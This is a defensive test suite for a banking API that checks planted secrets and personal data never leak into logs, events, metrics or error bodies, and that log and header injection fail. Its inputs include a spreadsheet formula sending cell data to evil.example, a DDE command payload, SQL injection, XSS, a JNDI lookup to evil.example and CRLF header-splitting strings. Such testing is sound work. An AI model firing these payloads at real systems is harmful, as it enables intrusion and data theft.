import { randomBytes, randomInt } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { makeApiKey } from '#libs/contracts/api-key.ts';
import { bucketForKey } from '#libs/contracts/ids.ts';
import { messageType } from '#libs/contracts/messages.ts';
import { commandPartition, type TopicName, topicName, topics } from '#libs/contracts/topics.ts';
import type { ReceivedMessage } from '#libs/kafka/consume/consume.ts';
import { type Answer, corporate, retail, unknownId } from '../support/client.ts';
import { checkErrorBody, exchange } from '../support/hostile.ts';
import { caughtUp, publish, readTopics } from '../support/kafka.ts';
import { eventually, useBank } from '../support/world.ts';

/**
 * Sends marker secrets and personal data in valid and invalid requests to a bank with the most verbose logs. None may
 * appear in a log, a header, an event, the reason of a dead letter, a metric, or an error body. Also tests texts that
 * would forge a log line or a header.
 */
const world = useBank({ env: { LOG_LEVEL: 'trace' } });
const { api } = world;
const run = randomBytes(4).toString('hex');
/** A marker consists of letters and digits, so that no encoding changes it. */
const mark = (kind: string) => `zq${run}${kind}`;
/** The digits of a number that the numbering plan of Kenya may have. */
const digits = () => `2547${String(randomInt(1e9)).padStart(9, '0')}`;
const [phone, ussd, badPhone] = [digits(), digits(), digits()];
/** The free text of a posting, which only events contain. */
const freeText = { description: mark('description'), reference: mark('reference') };
const secrets = new Set<string>([phone, ussd, badPhone]);
const personal = (kind: string) => {
  secrets.add(mark(kind));
  return mark(kind);
};
const refusals: Answer[] = [];
const expectedPoison = 5;

async function refusedRequests(): Promise<void> {
  const value = personal;
  const send = async (path: string, body: unknown, method = 'POST') =>
    void refusals.push(await api.send(method, path, { body }));
  await send('/clients', { ...retail(), password: value('password'), pin: { deep: [value('pin')] } });
  await send('/clients', {
    ...retail(),
    email: value('bademail'),
    contact_number: `${badPhone}x`,
    first_name: `${value('control')}\u0007`,
    address: value('long').repeat(60),
    ussd_status: value('status'),
  });
  await send('/clients', { ...retail(), client_type: value('type') });
  await send('/clients', { ...retail(), first_name: [value('list')], last_name: { name: value('object') } });
  await send('/accounts', {
    client_id: unknownId('cli'),
    account_type: value('accounttype'),
    currency: value('currency'),
    initial_deposit: value('deposit'),
    status: value('accountstatus'),
  });
  await send('/transactions', {
    account_id: unknownId('acc'),
    transaction_type: value('kind'),
    amount: value('amount'),
    description: value('toolong').repeat(30),
  });
  await send('/admin/api-keys', {
    name: 'x',
    scopes: [value('scope')],
    expires_at: value('expiry'),
    environment: value('environment'),
  });
  await send('/clients', {
    ...retail(),
    ussd_phone_number: `+${ussd}`,
    ussd_status: 'active',
    last_name: value('duplicate'),
  });
  for (const raw of [
    `{"password": ${value('bare')}}`,
    `{"password": "${value('open')}`,
    `{"x":1,"x":"${value('twice')}"}`,
    `{"__proto__":"${value('proto')}"}`,
  ])
    refusals.push(await api.send('POST', '/clients', { raw }));
  refusals.push(
    await api.send('POST', '/clients', {
      raw: `<a>${value('xml')}</a>`,
      headers: { 'content-type': `text/${value('media')}` },
    }),
  );
  for (const query of [
    `cursor=${value('cursor')}`,
    `limit=${value('limit')}`,
    `password=${value('query')}`,
    `ussd_phone=${value('searched')}`,
    `order=${value('order')}`,
  ])
    refusals.push(await api.get(`/clients?${query}`));
  const unsigned = (claims: object) =>
    `${Buffer.from('{"alg":"RS256","kid":"x"}').toString('base64url')}.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.${value('signature')}`;
  const key = makeApiKey('live', unknownId('key'));
  secrets.add(key.slice(-49));
  const forged = [
    ['x-api-key', key],
    ['x-api-key', value('nokey')],
    ['authorization', `Basic ${value('basic')}`],
    ['authorization', `Bearer ${unsigned({ iss: world.bank.issuer, sub: value('sub') })}`],
  ] as const;
  for (const [name, credential] of forged) refusals.push(await api.with({ [name]: credential }).get('/clients'));
  const { answers } = await exchange(
    api.baseUrl,
    `POST /clients HTTP/1.1\r\nHost: x\r\nx-api-key: ${world.bank.api_key}\r\nCookie: session=${value('cookie')}\r\nUser-Agent: ${value('agent')}\r\n${value('broken')}\r\n\r\n`,
  );
  expect(answers[0]?.body).not.toContain(mark(''));
}

async function goodRequests(): Promise<void> {
  const names = {
    first_name: personal('first'),
    last_name: personal('last'),
    address: personal('address'),
    contact_number: `+${phone}`,
    ussd_phone_number: `+${ussd}`,
    ussd_status: 'active',
  };
  const client = await api.client({ ...names, email: `${personal('email')}@example.com` });
  await api.client({
    ...corporate(),
    client_type: 'Corporate',
    company_name: personal('company'),
    registration_number: personal('registration'),
    first_name: undefined,
    last_name: undefined,
  });
  expect(
    (
      await api.patch(`/clients/${client.client_id}`, {
        address: personal('newaddress'),
        email: `${personal('newemail')}@example.com`,
      })
    ).status,
  ).toBe(200);
  expect((await api.get(`/clients/ussd/search?ussd_phone=%2B${ussd}`)).status).toBe(200);
  const account = await api.account(client.client_id, { initial_deposit: 100 });
  await api.transact(account.account_id, 'Deposit', 5, freeText);
  const refused = await api.post('/transactions', {
    account_id: account.account_id,
    transaction_type: 'Withdrawal',
    amount: 1e6,
    ...freeText,
  });
  refusals.push(refused);
  const key = await api.key({ scopes: ['clients:read'] });
  const rotated = (await api.post(`/admin/api-keys/${key.key_id}/rotation`)).data<{ api_key: string }>();
  const jwt = await world.bank.token();
  for (const secret of [key.api_key, rotated.api_key, world.bank.api_key, jwt]) secrets.add(secret.slice(-43));
  for (const caller of [api.withKey(key.api_key), api.withKey(rotated.api_key), api.withToken(jwt)])
    expect((await caller.get(`/clients/${client.client_id}`)).status).toBe(200);
}

/** Input with which the services themselves fail. Reasons and log lines must not contain it. */
async function poison(): Promise<void> {
  // Postgres reports a violation of this rule with the whole row.
  await world.sql(`alter table accounts.clients add constraint odd check (first_name <> '${personal('row')}')`);
  refusals.push(await api.post('/clients', { ...retail(), first_name: mark('row'), last_name: personal('rowlast') }));
  const data = {
    client_id: unknownId('cli'),
    ...retail(),
    address: null,
    ussd_phone_number: null,
    ussd_status: 'inactive',
  };
  const poisons: [TopicName, string, string][] = [
    ['accounts.commands', 'create_client', JSON.stringify({ ...data, first_name: { name: personal('poisonname') } })],
    ['accounts.commands', 'create_client', `{"first_name":"${personal('poisonjson')}`],
    [
      'accounts.commands',
      'create_client',
      JSON.stringify({ ...data, client_id: unknownId('cli'), last_name: `${personal('nul')}\u0000` }),
    ],
    ['ledger.commands', 'create_transaction', `{"description":"${personal('poisontext')}"}`],
  ];
  await publish(
    world.bank,
    poisons.map(([topic, name, value]) => {
      const id = unknownId('cli');
      const headers = {
        ce_id: id,
        ce_type: messageType(name as 'create_client'),
        ce_source: '/test',
        ce_time: new Date().toISOString(),
        ce_subject: id,
        'request-id': id,
        actor: 'test',
      };
      return {
        topic: topicName(world.bank.topic_prefix, topic),
        partition: commandPartition(bucketForKey(id)),
        key: id,
        value,
        headers,
      };
    }),
  );
}

const injected = `","level":"fatal","msg":"FORGED ${run}","x":"\\r\\n%0d%0aSet-Cookie: forged=1`;
const formulas = [
  '=1+1',
  '@SUM(A1:A9)',
  '+1-2',
  '-2+3',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '"; DROP TABLE entries; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  '%s%n',
];

let logs: Record<string, string>;
let messages: Map<TopicName, ReceivedMessage[]>;
let metrics: string[];
beforeAll(async () => {
  await goodRequests();
  await refusedRequests();
  await poison();
  for (const header of ['x-request-id', 'traceparent', 'user-agent', 'idempotency-key'])
    expect((await api.post('/clients', { ...retail(), address: injected }, { [header]: injected })).status).toBe(201);
  const names = Object.keys(topics) as TopicName[];
  await eventually(async () => {
    messages = await readTopics(world.bank, names);
    return (
      names.filter((name) => name.endsWith('.dlq')).reduce((sum, name) => sum + (messages.get(name)?.length ?? 0), 0) >=
      expectedPoison
    );
  }, 40_000);
  await Promise.all([caughtUp(world.bank, 'accounts'), caughtUp(world.bank, 'ledger')]);
  metrics = await Promise.all(
    world.bank.processes.map(async ({ health_url }) => (await fetch(new URL('/metrics', health_url))).text()),
  );
  await world.sql('alter table accounts.clients drop constraint odd');
  logs = Object.fromEntries(world.bank.processes.map(({ name, log }) => [name, readFileSync(log, 'utf8')]));
}, 180_000);

/** Returns a secret as plain text, in hex, and in base64 at every alignment. */
function forms(secret: string): string[] {
  const shifted = [0, 1, 2].map((shift) =>
    Buffer.from(' '.repeat(shift) + secret)
      .toString('base64')
      .slice(shift + 2, -4),
  );
  return [secret, Buffer.from(secret).toString('hex'), ...shifted];
}
const found = (text: string, wanted: Iterable<string>) =>
  [...wanted].filter((secret) => forms(secret).some((form) => text.includes(form)));
const everything = () => [...secrets, ...Object.values(freeText)];
const headersText = ({ headers, key }: ReceivedMessage) => `${JSON.stringify(headers)} ${key}`;

describe('marker secrets and personal data', () => {
  it('appear in no log, even at level trace', () => {
    // asvs: 16.2.5
    expect(secrets.size).toBeGreaterThan(45);
    for (const [name, text] of Object.entries(logs)) {
      expect(text).toContain('"level":"trace"');
      expect([name, found(text, everything())]).toEqual([name, []]);
    }
  });

  it('appear in no header or key of a message, including the reason of a dead letter', () => {
    for (const [name, list] of messages)
      expect([name, list.flatMap((message) => found(headersText(message), everything()))]).toEqual([name, []]);
  });

  it('appear in no event, except the free text of a posting', () => {
    const isEvent = (name: TopicName) => !/\.(commands|queries|dlq)$|^replies$/.test(name);
    const events = [...messages].filter(([name]) => isEvent(name));
    expect(events.flatMap(([, list]) => list).length).toBeGreaterThan(10);
    for (const [name, list] of events)
      expect([name, list.flatMap(({ value }) => found(String(value), secrets))]).toEqual([name, []]);
    expect(
      found(String(messages.get('transactions')?.map(({ value }) => String(value))), Object.values(freeText)),
    ).toHaveLength(2);
  });

  it('appear in no metric', () => {
    for (const text of metrics) expect(found(text, everything())).toEqual([]);
  });

  it('appear in no error body', () => {
    // asvs: 16.5.1
    expect(refusals.length).toBeGreaterThan(20);
    for (const { status, text } of refusals) {
      expect(status).toBeGreaterThanOrEqual(400);
      expect([text, found(text, everything())]).toEqual([text, []]);
      checkErrorBody(status, text);
    }
  });
});

describe('injection', () => {
  it('every log line is one JSON record of its service, and none is forged', () => {
    // asvs: 16.4.1
    for (const [name, text] of Object.entries(logs)) {
      const records = text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line) as Record<string, unknown>);
      for (const record of records)
        expect(record).toMatchObject({
          service: name,
          instance: name,
          level: expect.stringMatching(/^(trace|debug|info|warn|error)$/),
          time: expect.stringMatching(/Z$/),
        });
      expect(records.filter(({ msg }) => String(msg).includes('FORGED'))).toEqual([]);
      expect(/[\u0000-\u0009\u000b-\u001f\u007f]/.test(text)).toBe(false);
    }
    expect(logs['gateway']).toContain(JSON.stringify(injected).slice(1, -1));
  });

  it.each(['a\u001b[31mred', 'a\u001b]0;title\u0007', 'a\u009b31m', 'a\tb', `a${'\u00e9'}`])(
    'X-Request-Id %j is replaced and not logged',
    async (id) => {
      const { answers } = await exchange(
        api.baseUrl,
        `GET / HTTP/1.1\r\nHost: x\r\nx-api-key: ${world.bank.api_key}\r\nX-Request-Id: ${id}\r\n\r\n`,
        { quietMs: 100 },
      );
      expect(answers[0]?.head ?? '').not.toContain(id);
      expect(answers).toHaveLength(1);
    },
  );

  it('returned values never split a header', async () => {
    const answer = await api.get('/', { 'x-request-id': injected });
    expect(answer.header('x-request-id')).toBe(injected);
    expect(answer.header('set-cookie')).toBeNull();
    const page = await api.get(`/clients?limit=1&ussd_phone=${encodeURIComponent('+254700000001')}%0d%0aX-Evil:%201`);
    expect([page.status, page.header('x-evil')]).toEqual([400, null]);
  });

  it.each(formulas)('%s is stored and returned unchanged', async (text) => {
    const client = await api.client({ first_name: text, last_name: text, address: text });
    expect((await api.get(`/clients/${client.client_id}`)).data()).toMatchObject({
      first_name: text,
      last_name: text,
      address: text,
    });
    const account = await api.account(client.client_id);
    const { transaction_id } = await api.transact(account.account_id, 'Deposit', 1, {
      description: text,
      reference: text,
    });
    expect((await api.get(`/transactions/${transaction_id}`)).data()).toMatchObject({
      description: text,
      reference: text,
    });
    expect(
      (await api.get(`/transactions?reference=${encodeURIComponent(text)}&account_id=${account.account_id}`)).list(),
    ).toHaveLength(1);
  });
});
